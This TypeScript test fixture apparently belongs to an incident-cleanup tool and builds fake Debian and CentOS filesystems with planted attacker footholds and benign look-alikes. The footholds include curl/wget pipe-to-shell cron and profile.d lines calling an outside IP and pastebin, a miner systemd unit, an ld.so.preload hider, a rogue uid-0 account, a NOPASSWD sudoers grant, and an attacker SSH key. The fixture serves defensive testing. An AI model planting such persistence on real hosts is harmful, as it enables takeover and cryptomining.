import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import { adminSystemd, debianCron, debianSystemd, debianSysv, installPackage, xorDdos } from './persistence';
import type { FakeRoot } from './fake-root';

// Trees for clean + undo: one with every kind of foothold the write-ups remove by hand, and
// benign look-alikes that must get an empty plan.

export const NOW = new Date('2026-11-20T12:00:00Z');
export const DAYS_AGO = (d: number) => new Date(NOW.getTime() - d * 86400_000);
const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(2048)]);

export const ADMIN_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq0ZbWcC3dMFg2YwqjXh0z7yQp6f1y8m2e8v5t0rHkK admin@laptop';
export const ATTACKER_KEY =
  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7nQ6pQKx0K9lG8eSvRZcCq1sYl2tD5mM0xJ9X1hQ0Ww8Gm0l3C5f6e8yJ2a5d7y9R2T4Q6b8c0e2g4i6k8m0o2q4s6u8w0y2A4C6E8G0I2K4M6O8Q0S2U4W6Y8a0c2e4g6i8k0m2o4q6s8u0w2y4A6C8E0G2I4K6M8O0Q2S4U6W8Y0a2c4e6g8i0k2m4o6q8s0u2w4y6A8C0E2G4I6K8M0O2Q4S6U8W0Y2a4c6e8g0i2k4m6o8q0s2u4w6y8 redis@attacker';

/** Accounts of a small Debian host plus, when rogue, a second uid-0 account and a look-alike. */
function accounts(root: FakeRoot, rogue: boolean): void {
  const passwd = [
    'root:x:0:0:root:/root:/bin/bash',
    'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
    'www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin',
    'bob:x:1000:1000:Bob,,,:/home/bob:/bin/bash',
    'node_exporter:x:999:999::/nonexistent:/usr/sbin/nologin',
  ];
  const shadow = [
    'root:$6$saltsalt$hash:20000:0:99999:7:::',
    'daemon:*:19000:0:99999:7:::',
    'www-data:*:19000:0:99999:7:::',
    'bob:$6$s2$h2:20000:0:99999:7:::',
    'node_exporter:!:20000::::::',
  ];
  const group = ['root:x:0:', 'daemon:x:1:', 'sudo:x:27:bob', 'www-data:x:33:', 'node_exporter:x:999:', 'bob:x:1000:'];
  const gshadow = ['root:*::', 'daemon:*::', 'sudo:*::bob', 'www-data:*::', 'node_exporter:!::', 'bob:!::'];
  if (rogue) {
    passwd.push('sysadm:x:0:0::/root:/bin/bash', 'maill:x:1001:1001::/home/maill:/bin/bash');
    shadow.push('sysadm:$6$evil$evilhash:20770:0:99999:7:::', 'maill:$6$evil2$evilhash2:20770:0:99999:7:::');
    group[2] = 'sudo:x:27:bob,maill';
    gshadow[2] = 'sudo:*::bob,maill';
    group.push('maill:x:1001:');
    gshadow.push('maill:!::');
  }
  const opts = { mtime: rogue ? DAYS_AGO(1) : DAYS_AGO(200) };
  root
    .write('/etc/passwd', `${passwd.join('\n')}\n`, opts)
    .write('/etc/shadow', `${shadow.join('\n')}\n`, { ...opts, mode: 0o640 })
    .write('/etc/group', `${group.join('\n')}\n`, opts)
    .write('/etc/gshadow', `${gshadow.join('\n')}\n`, { ...opts, mode: 0o640 });
}

/** A Debian-like base every tree shares: packaged cron, systemd units and SysV scripts. */
export function baseTree(root: FakeRoot): FakeRoot {
  root.base();
  debianCron(root);
  debianSystemd(root);
  debianSysv(root);
  root.write('/etc/ssh/sshd_config', 'Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\nUsePAM yes\n', {
    mtime: DAYS_AGO(300),
  });
  root.write('/home/bob/.ssh/authorized_keys', `${ADMIN_KEY}\n`, { mtime: DAYS_AGO(300), mode: 0o600 });
  return root;
}

/**
 * Every foothold kind: a download-and-run cron line inside the packaged /etc/crontab and a user
 * crontab, a systemd service with its wants link and timer, the XOR.DDoS init script with S90
 * links, an ld.so.preload hider, an attacker key in a nologin account, a rogue uid-0 account and
 * a look-alike one, and payloads in hidden and temporary directories.
 */
export function plantFootholds(root: FakeRoot): FakeRoot {
  baseTree(root);
  accounts(root, true);
  const t = { mtime: DAYS_AGO(1) };
  root
    .write('/etc/crontab', `${readCrontab(root)}*/5 * * * * root curl -fsSL http://185.222.58.10/x.sh | sh\n`, t)
    .write(
      '/var/spool/cron/crontabs/root',
      '# m h dom mon dow command\n0 4 * * * /usr/local/sbin/backup\n*/30 * * * * wget -qO- http://185.222.58.10/m.sh | bash\n',
      {
        ...t,
        mode: 0o600,
      },
    )
    .write('/usr/local/sbin/backup', '#!/bin/sh\ntar czf /srv/backup.tgz /etc\n', { mode: 0o755, mtime: DAYS_AGO(300) })
    .write('/usr/lib/.cache/kworkerd', elf(), { mode: 0o755, ...t })
    .write(
      '/etc/systemd/system/dbus-helper.service',
      '[Unit]\nDescription=D-Bus helper\n[Service]\nExecStart=/usr/lib/.cache/kworkerd -o pool.minexmr.com:4444\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
      t,
    )
    .write(
      '/etc/systemd/system/dbus-helper.timer',
      '[Unit]\nDescription=D-Bus helper\n[Timer]\nOnBootSec=1min\nOnUnitActiveSec=10min\n[Install]\nWantedBy=timers.target\n',
      t,
    )
    .symlink('/etc/systemd/system/multi-user.target.wants/dbus-helper.service', '/etc/systemd/system/dbus-helper.service')
    .symlink('/etc/systemd/system/timers.target.wants/dbus-helper.timer', '/etc/systemd/system/dbus-helper.timer')
    .write('/etc/ld.so.preload', '/usr/local/lib/libprocesshider.so\n', t)
    .write('/usr/local/lib/libprocesshider.so', elf(), t)
    .write('/var/www/.ssh/authorized_keys', `${ATTACKER_KEY}\n`, { ...t, mode: 0o600 })
    .write('/tmp/.x/xmrig', elf(), { mode: 0o755, ...t });
  xorDdos(root, 'srstomucra', DAYS_AGO(1));
  return root;
}

function readCrontab(root: FakeRoot): string {
  return fs.readFileSync(root.p('/etc/crontab'), 'utf8');
}

/** What a careful admin has that looks like a foothold and is not. */
export function benignLookalikes(root: FakeRoot): FakeRoot {
  baseTree(root);
  adminSystemd(root, DAYS_AGO(300));
  accounts(root, false);
  root
    .write('/etc/cron.d/backup', 'MAILTO=root\n0 3 * * * root /usr/local/sbin/backup --quiet\n', { mtime: DAYS_AGO(300) })
    .write('/usr/local/sbin/backup', '#!/bin/sh\ntar czf /srv/backup.tgz /etc\n', { mode: 0o755, mtime: DAYS_AGO(300) })
    .write('/root/.ssh/authorized_keys', `${ADMIN_KEY}\n`, { mtime: DAYS_AGO(300), mode: 0o600 });
  return root;
}

/**
 * A second host, CentOS-flavoured: a user crontab under /var/spool/cron, an rc.local line, a
 * profile.d downloader, a NOPASSWD sudoers grant and root password login switched on in sshd,
 * an authorized_keys2 file, a payload under /var/tmp, and a preload hider named through the
 * merged-/usr link /lib64 -> usr/lib64.
 */
export function plantSecondHost(root: FakeRoot): FakeRoot {
  baseTree(root);
  accounts(root, true);
  installPackage(root, 'ntpdate', { '/usr/sbin/ntpdate': 'ELF' });
  const t = { mtime: DAYS_AGO(2) };
  root
    .write(
      '/var/spool/cron/root',
      '*/15 * * * * (curl -fsSL https://pastebin.com/raw/xyz || wget -q -O- https://pastebin.com/raw/xyz) | sh\n',
      t,
    )
    // Timestomped by the intruder: rc.local looks a year old, so only the miner line stands out.
    .write(
      '/etc/rc.local',
      '#!/bin/sh -e\n# keep the NTP sync\n/usr/sbin/ntpdate -u pool.ntp.org || true\nnohup /var/tmp/.ICE-unix/kdevtmpfsi >/dev/null 2>&1 &\nexit 0\n',
      {
        mtime: DAYS_AGO(365),
        mode: 0o755,
      },
    )
    .write('/var/tmp/.ICE-unix/kdevtmpfsi', elf(), { ...t, mode: 0o755 })
    .write('/etc/profile.d/sysupdate.sh', 'export HISTSIZE=1000\ncurl -s http://185.222.58.10/p.sh | bash >/dev/null 2>&1\n', t)
    .write('/etc/sudoers', 'Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n', {
      mtime: DAYS_AGO(300),
      mode: 0o440,
    })
    .write('/etc/sudoers.d/maill', 'maill ALL=(ALL) NOPASSWD: ALL\n', { ...t, mode: 0o440 })
    .write(
      '/etc/ssh/sshd_config',
      'Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\nPasswordAuthentication yes\nUsePAM yes\n',
      t,
    )
    .write('/root/.ssh/authorized_keys2', `${ATTACKER_KEY}\n`, { ...t, mode: 0o600 })
    // Merged /usr: the preload hider is named through the /lib64 link.
    .write('/usr/lib64/libhide.so', elf(), t)
    .symlink('/lib64', 'usr/lib64')
    .write('/etc/ld.so.preload', '/lib64/libhide.so\n', t);
  return root;
}
